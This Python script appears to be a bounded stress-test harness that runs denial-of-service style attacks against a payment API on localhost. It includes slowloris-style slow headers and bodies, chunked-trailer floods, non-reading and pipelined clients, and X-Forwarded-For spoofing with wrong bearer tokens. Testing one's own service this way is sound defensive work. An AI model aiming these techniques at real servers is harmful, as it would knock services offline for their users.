"""Attacks on a service at 127.0.0.1, each for a bounded time: `python attacks.py NAME PORT SECONDS SOCKETS [PATH KEY]`.

They run in a process of their own that gives way to others, as if it ran on a machine of its own: what an attack costs
the attacker isn't taken for what it costs the service.
"""

import asyncio
import os
import sys
from collections.abc import Awaitable, Callable
from contextlib import suppress
from functools import partial

Connection = tuple[asyncio.StreamReader, asyncio.StreamWriter]
Attack = Callable[[Connection], Awaitable[None]]

GET = b"GET %s HTTP/1.1\r\nHost: x\r\n%s\r\n"


async def trailers(connection: Connection) -> None:
    """Send trailers for as long as they are taken."""
    _, writer = connection
    writer.write(b"POST /v1/payments HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n")
    while not writer.transport.is_closing():
        writer.write(b"a:b\r\n" * 2000)
        await writer.drain()


async def non_readers(connection: Connection) -> None:
    """Ask for the longest page again and again, and read nothing."""
    _, writer = connection
    while not writer.transport.is_closing():
        writer.write(GET % (b"/openapi.json", b"") * 4)
        await asyncio.sleep(1)


async def slow_headers(connection: Connection) -> None:
    """Send a header, a byte a second."""
    _, writer = connection
    writer.write(b"GET / HTTP/1.1\r\nHost: x\r\nX-Slow: ")
    while not writer.transport.is_closing():
        writer.write(b"a")
        await asyncio.sleep(1)


async def slow_bodies(connection: Connection) -> None:
    """Send a body to the one route that reads it before anything is checked, a byte a second."""
    _, writer = connection
    writer.write(
        b"POST /v1/notify/bakong HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 5000\r\n\r\n{"
    )
    while not writer.transport.is_closing():
        writer.write(b" ")
        await asyncio.sleep(1)


async def pipelines(connection: Connection) -> None:
    """Ask for eight long pages at once, read them, and ask again."""
    reader, writer = connection
    while not writer.transport.is_closing() and not reader.at_eof():
        writer.write(GET % (b"/openapi.json", b"") * 8)
        await writer.drain()
        await reader.read(1 << 20)


async def spoofed(connection: Connection) -> None:
    """Try wrong keys under ever new addresses."""
    reader, writer = connection
    number = 0
    while not writer.transport.is_closing() and not reader.at_eof():
        number += 1
        name = b"X-Forwarded-For: 203.0.%d.%d\r\nAuthorization: Bearer wrong\r\n" % (number // 250 % 250, number % 250)
        writer.write(GET % (b"/v1/payments", name))
        await reader.read(1 << 16)
        await asyncio.sleep(0.05)


async def streams(path: str, key: str, connection: Connection) -> None:
    """Open an event stream and hold it."""
    reader, writer = connection
    writer.write(GET % (path.encode(), b"Authorization: Bearer " + key.encode() + b"\r\n"))
    while await reader.read(1 << 16):
        pass
    await asyncio.sleep(1)


async def again(attack: Attack, port: int) -> None:
    """Attack over one connection after another."""
    while True:
        with suppress(OSError):
            connection = await asyncio.open_connection("127.0.0.1", port)
            try:
                await attack(connection)
            finally:
                connection[1].transport.abort()
        await asyncio.sleep(0.1)


async def main(name: str, port: int, seconds: float, sockets: int, *more: str) -> None:
    attacks: dict[str, Attack] = {
        "trailers": trailers,
        "non_readers": non_readers,
        "slow_headers": slow_headers,
        "slow_bodies": slow_bodies,
        "pipelines": pipelines,
        "spoofed": spoofed,
    }
    attack = partial(streams, more[0], more[1]) if name == "streams" else attacks[name]
    with suppress(TimeoutError):
        async with asyncio.timeout(seconds), asyncio.TaskGroup() as group:
            for _ in range(sockets):
                group.create_task(again(attack, port))


if __name__ == "__main__":
    if hasattr(os, "nice"):
        os.nice(19)
    asyncio.run(main(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), int(sys.argv[4]), *sys.argv[5:]))
